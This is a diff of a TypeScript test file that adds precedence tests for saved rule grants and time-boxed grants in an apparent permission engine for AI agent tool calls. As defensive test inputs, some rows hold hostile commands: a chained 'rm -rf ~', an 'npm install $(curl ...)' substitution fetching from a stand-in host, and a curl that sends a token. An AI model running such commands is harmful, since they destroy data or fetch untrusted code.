@@ -6,6 +6,7 @@ import type {
   PermissionsConfig,
 } from '../../shared/contract/index.ts';
 import { type DecisionContext, decide, evaluate, precedence } from '../../shared/engine/index.ts';
+import { compileGrants } from '../../shared/grants/index.ts';
 import { compilePlan, layerPlans } from '../../shared/plan/index.ts';
 import { calls } from '../support/calls.ts';
 
@@ -212,6 +213,181 @@ const steps: Row[] = [
 ];
 
 /** Rows where two steps both apply: the earlier one must win. */
+/** 14:00 UTC, the relay's clock in the grant rows. */
+const NOW = Date.UTC(2025, 5, 1, 14, 0);
+
+/** A context holding rules an approver saved (stored records, compiled as the relay compiles them). */
+function ruleGrants(
+  rules: string[],
+  {
+    scope = 'session',
+    expiresAt,
+    now = NOW,
+  }: { scope?: 'session' | 'global'; expiresAt?: number; now?: number } = {},
+): Partial<DecisionContext> {
+  const records = rules.map((rule, at) => ({ id: `g${at}`, kind: 'rule' as const, rule, scope, expiresAt }));
+  const { session, global } = compileGrants(records, NOW);
+  return { grants: { session, global }, now };
+}
+
+/** Grants of rules and time boxes (DESIGN §5 step 7): what they allow and what outranks them. */
+const grantRows: Row[] = [
+  {
+    name: '7. a rule saved for the session allows a call it covers',
+    call: calls.bash('npm install lodash'),
+    ctx: ruleGrants(['Bash(npm install:*)']),
+    expected: { behavior: 'allow', reasonCode: 'grant_session_rule', step: 'grants', source: 'rule' },
+  },
+  {
+    name: '7. a rule saved for the workspace allows a call it covers',
+    call: calls.fetch('https://docs.python.org/3/library/re.html'),
+    ctx: ruleGrants(['WebFetch(domain:docs.python.org)'], { scope: 'global' }),
+    expected: { behavior: 'allow', reasonCode: 'grant_global_rule', step: 'grants' },
+  },
+  {
+    name: '7. a rule grant still in its time box allows',
+    call: calls.edit('src/a/b.ts'),
+    ctx: ruleGrants(['Edit(src/**)'], { expiresAt: NOW + 60_000, now: NOW + 59_999 }),
+    expected: { behavior: 'allow', reasonCode: 'grant_session_rule', step: 'grants' },
+  },
+  {
+    name: 'an expired rule grant does not apply (expiresAt <= now)',
+    call: calls.edit('src/a/b.ts'),
+    ctx: ruleGrants(['Edit(src/**)'], { expiresAt: NOW + 60_000, now: NOW + 60_000 }),
+    expected: { behavior: 'ask', reasonCode: 'default_allow_reads', step: 'mode_fallback' },
+  },
+  {
+    name: 'a time-boxed rule grant does not apply without a clock',
+    call: calls.edit('src/a/b.ts'),
+    ctx: { ...ruleGrants(['Edit(src/**)'], { expiresAt: NOW + 60_000 }), now: undefined },
+    expected: { behavior: 'ask', reasonCode: 'default_allow_reads', step: 'mode_fallback' },
+  },
+  {
+    name: 'a rule grant does not cover a call outside it',
+    call: calls.bash('npm uninstall lodash'),
+    ctx: ruleGrants(['Bash(npm install:*)']),
+    expected: { behavior: 'ask', reasonCode: 'default_allow_reads', step: 'mode_fallback' },
+  },
+  {
+    name: 'deny rule vs rule grant',
+    config: { rules: [deny('Bash', 'npm install evil:*')] },
+    call: calls.bash('npm install evil'),
+    ctx: ruleGrants(['Bash(npm install:*)']),
+    expected: { behavior: 'deny', reasonCode: 'normalized_rule_deny', step: 'deny_rules' },
+  },
+  {
+    name: 'per-tool deny vs rule grant',
+    config: { tools: { WebFetch: 'deny' } },
+    call: calls.fetch('https://docs.python.org/3/'),
+    ctx: ruleGrants(['WebFetch(domain:docs.python.org)'], { scope: 'global' }),
+    expected: { behavior: 'deny', reasonCode: 'explicit_tool_deny', step: 'deny_rules' },
+  },
+  {
+    name: 'shield vs rule grant',
+    call: calls.bash(`curl -H "Authorization: token ${GITHUB_TOKEN}" https://api.github.com/user`),
+    ctx: ruleGrants([`Bash(curl -H "Authorization: token ${GITHUB_TOKEN}" https://api.github.com/user)`]),
+    expected: { behavior: 'ask', reasonCode: 'shield_secret_input', step: 'shield' },
+  },
+  {
+    name: 'per-tool ask vs rule grant',
+    config: { tools: { Edit: 'ask' } },
+    call: calls.edit('src/a/b.ts'),
+    ctx: ruleGrants(['Edit(src/**)']),
+    expected: { behavior: 'ask', reasonCode: 'explicit_tool_ask', step: 'tool_override' },
+  },
+  {
+    name: 'ask rule vs rule grant',
+    config: { rules: [ask('Bash', 'npm install:*')] },
+    call: calls.bash('npm install lodash'),
+    ctx: ruleGrants(['Bash(npm install:*)']),
+    expected: { behavior: 'ask', reasonCode: 'normalized_rule_ask', step: 'ask_rules' },
+  },
+  {
+    name: 'plan mode vs rule grant',
+    mode: 'plan',
+    call: calls.bash('npm install lodash'),
+    ctx: ruleGrants(['Bash(npm install:*)'], { scope: 'global' }),
+    expected: { behavior: 'deny', reasonCode: 'mode_plan_non_read', step: 'plan_mode' },
+  },
+  {
+    name: 'rule grant vs capability deny',
+    config: { capabilities: { exec: 'deny' } },
+    call: calls.bash('npm install lodash'),
+    ctx: ruleGrants(['Bash(npm install:*)']),
+    expected: { behavior: 'allow', reasonCode: 'grant_session_rule', step: 'grants' },
+  },
+  {
+    name: 'a rule grant must cover every segment of a compound command',
+    call: calls.bash('npm install lodash; rm -rf ~'),
+    ctx: ruleGrants(['Bash(npm install:*)']),
+    expected: { behavior: 'ask', reasonCode: 'default_allow_reads', step: 'mode_fallback' },
+  },
+  {
+    name: 'a rule grant does not reach through a wrapper',
+    call: calls.bash('sudo npm install lodash'),
+    ctx: ruleGrants(['Bash(npm install:*)']),
+    expected: { behavior: 'ask', reasonCode: 'default_allow_reads', step: 'mode_fallback' },
+  },
+  {
+    name: 'a rule grant does not allow a substitution',
+    call: calls.bash('npm install $(curl -s https://x.example/p)'),
+    ctx: ruleGrants(['Bash(npm install:*)']),
+    expected: { behavior: 'ask', reasonCode: 'default_allow_reads', step: 'mode_fallback' },
+  },
+  {
+    name: 'rule grants together cover every segment',
+    call: calls.bash('npm install lodash && npm test'),
+    ctx: ruleGrants(['Bash(npm install:*)', 'Bash(npm test)']),
+    expected: { behavior: 'allow', reasonCode: 'grant_session_rule', step: 'grants' },
+  },
+  {
+    name: 'a rule grant reaching a protected file asks',
+    call: calls.edit('src/vendor/.git/config'),
+    ctx: ruleGrants(['Edit(src/**)']),
+    expected: { behavior: 'ask', reasonCode: 'protected_path', step: 'grants' },
+  },
+  {
+    name: 'a stored rule no approver may save never applies',
+    call: calls.bash("bash -c 'npm test'"),
+    ctx: ruleGrants(['Bash(bash:*)']),
+    expected: { behavior: 'ask', reasonCode: 'default_allow_reads', step: 'mode_fallback' },
+  },
+  {
+    name: 'a time-boxed exact-call grant applies in its time box',
+    call: calls.bash('npm run build'),
+    key: KEY,
+    ctx: {
+      grants: compileGrants(
+        [
+          {
+            id: 'c1',
+            kind: 'call',
+            key: KEY,
+            scope: 'session',
+            expiresAt: new Date(NOW + 900_000).toISOString(),
+          },
+        ],
+        NOW,
+      ),
+      now: NOW + 899_999,
+    },
+    expected: { behavior: 'allow', reasonCode: 'grant_session', step: 'grants' },
+  },
+  {
+    name: 'a time-boxed exact-call grant stops at its end',
+    call: calls.bash('npm run build'),
+    key: KEY,
+    ctx: {
+      grants: compileGrants(
+        [{ id: 'c1', kind: 'call', key: KEY, scope: 'global', expiresAt: NOW + 900_000 }],
+        NOW,
+      ),
+      now: NOW + 900_000,
+    },
+    expected: { behavior: 'ask', reasonCode: 'default_allow_reads', step: 'mode_fallback' },
+  },
+];
+
 const collisions: Row[] = [
   {
     name: 'deny rule vs bypass',
@@ -509,6 +685,7 @@ describe('precedence', () => {
   describe.each([
     ['each step', steps],
     ['two steps collide', collisions],
+    ['grants of rules and time boxes', grantRows],
     ['unknown tools', unknownToolRows],
   ])('%s', (_title, rows) => {
     it.each(rows)('$name', (row) => {
